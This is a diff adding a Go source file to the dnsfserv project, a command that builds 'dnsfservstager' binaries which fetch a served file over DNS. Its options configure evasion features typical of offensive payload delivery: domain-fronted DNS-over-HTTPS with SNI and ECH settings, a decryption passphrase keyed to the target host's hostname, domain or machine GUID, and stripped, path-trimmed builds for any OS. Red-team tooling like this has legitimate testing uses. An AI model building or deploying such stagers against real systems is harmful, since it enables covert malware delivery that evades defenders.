@@ -0,0 +1,211 @@
+package main
+
+/*
+ * stager.go
+ * Build a dnsfservstager for a served file
+ * By J. Stuart McMurray
+ * Created 20261015
+ * Last Modified 20261015
+ */
+
+import (
+	"errors"
+	"flag"
+	"fmt"
+	"log"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"runtime"
+	"strconv"
+	"strings"
+)
+
+/* stagerPackage is the default package to build with the stager command */
+const stagerPackage = "github.com/magisterquis/dnsfserv/dnsfservstager"
+
+/* stagerMain builds a stager which gets a file served by dnsfserv.  It is
+called with the arguments after "stager" on the command line. */
+func stagerMain(args []string) {
+	fs := flag.NewFlagSet("stager", flag.ExitOnError)
+	var (
+		dir = fs.String(
+			"dir",
+			"fserv",
+			"Name of `directory` containing files to serve",
+		)
+		file = fs.String(
+			"file",
+			"",
+			"Name of the served `file` the stager should get",
+		)
+		domain = fs.String(
+			"domain",
+			"",
+			"DNS `domain` the stager should query",
+		)
+		out = fs.String(
+			"out",
+			"",
+			"Output `file` (default stager_GOOS_GOARCH)",
+		)
+		goos = fs.String(
+			"os",
+			runtime.GOOS,
+			"Target `OS`",
+		)
+		goarch = fs.String(
+			"arch",
+			runtime.GOARCH,
+			"Target `architecture`",
+		)
+		dohURL = fs.String(
+			"doh-url",
+			"",
+			"Optional DoH server `URL`",
+		)
+		dohSNI = fs.String(
+			"doh-sni",
+			"",
+			"Optional comma-separated `SNIs` for domain-fronting DoH",
+		)
+		dohECH = fs.String(
+			"doh-ech",
+			"",
+			"Optional base64-encoded `ECHConfigList` for "+
+				"domain-fronting DoH",
+		)
+		passEnv = fs.String(
+			"pass-env",
+			"",
+			"Optional environment `variable` from which the stager "+
+				"reads the passphrase for an encrypted file",
+		)
+		envKey = fs.String(
+			"env-key",
+			"",
+			"Optional comma-separated host `attributes` (hostname, "+
+				"domain, machineguid) to which the encrypted "+
+				"file's passphrase is keyed",
+		)
+		maxBytes = fs.Uint64(
+			"max-bytes",
+			0,
+			"If nonzero, the maximum number of `bytes` the stager "+
+				"will retrieve",
+		)
+		maxDuration = fs.Duration(
+			"max-duration",
+			0,
+			"If nonzero, the maximum `duration` of the stager's "+
+				"transfer",
+		)
+		pkg = fs.String(
+			"package",
+			stagerPackage,
+			"Stager `package` to build",
+		)
+	)
+	fs.Usage = func() {
+		fmt.Fprintf(
+			os.Stderr,
+			`Usage: %v stager [options]
+
+Builds dnsfservstager configured to get one of the served files.  This requires
+the go tool.
+
+Options:
+`,
+			os.Args[0],
+		)
+		fs.PrintDefaults()
+	}
+	fs.Parse(args)
+
+	/* Make sure we have what we need */
+	if "" == *file {
+		log.Fatalf("Need a file (-file)")
+	}
+	if "" == *domain {
+		log.Fatalf("Need a domain (-domain)")
+	}
+	if "" == *out {
+		*out = fmt.Sprintf("stager_%s_%s", *goos, *goarch)
+	}
+
+	/* Make sure the file's actually served */
+	fname, err := stagerFile(*dir, *file)
+	if nil != err {
+		log.Fatalf("Error checking served file: %s", err)
+	}
+
+	/* Work out the stager's config */
+	var mb, md string
+	if 0 != *maxBytes {
+		mb = strconv.FormatUint(*maxBytes, 10)
+	}
+	if 0 != *maxDuration {
+		md = maxDuration.String()
+	}
+	ldflags, err := stagerLDFlags([][2]string{
+		{"fname", fname},
+		{"domain", strings.TrimSuffix(*domain, ".")},
+		{"dohURL", *dohURL},
+		{"dohSNI", *dohSNI},
+		{"dohECH", *dohECH},
+		{"passEnv", *passEnv},
+		{"envKey", *envKey},
+		{"maxBytes", mb},
+		{"maxDuration", md},
+	})
+	if nil != err {
+		log.Fatalf("Error: %s", err)
+	}
+
+	/* Build it */
+	cmd := exec.Command(
+		"go", "build",
+		"-trimpath",
+		"-ldflags", ldflags,
+		"-o", *out,
+		*pkg,
+	)
+	cmd.Env = append(os.Environ(), "GOOS="+*goos, "GOARCH="+*goarch)
+	cmd.Stdout = os.Stdout
+	cmd.Stderr = os.Stderr
+	if err := cmd.Run(); nil != err {
+		log.Fatalf("Error building stager: %s", err)
+	}
+	log.Printf("Built stager for %s in %s", fname, *out)
+}
+
+/* stagerFile returns the name with which file, in dir, is served, or an error
+if it isn't served. */
+func stagerFile(dir, file string) (string, error) {
+	fname := filepath.Clean(file)
+	if strings.ToLower(fname) != fname {
+		return "", errors.New("served filenames must be lowercase")
+	}
+	if _, err := os.Stat(filepath.Join(dir, fname)); nil != err {
+		return "", err
+	}
+	return fname, nil
+}
+
+/* stagerLDFlags returns the -ldflags which set the stager's variables to the
+values in vars, which are pairs of variable names and values.  Empty values are
+skipped. */
+func stagerLDFlags(vars [][2]string) (string, error) {
+	var ldflags []string
+	for _, v := range vars {
+		if "" == v[1] {
+			continue
+		}
+		if strings.ContainsAny(v[1], " \t\n'\"") {
+			return "", fmt.Errorf("invalid character in %q", v[1])
+		}
+		ldflags = append(ldflags, "-X main."+v[0]+"="+v[1])
+	}
+	ldflags = append(ldflags, "-s", "-w")
+	return strings.Join(ldflags, " "), nil
+}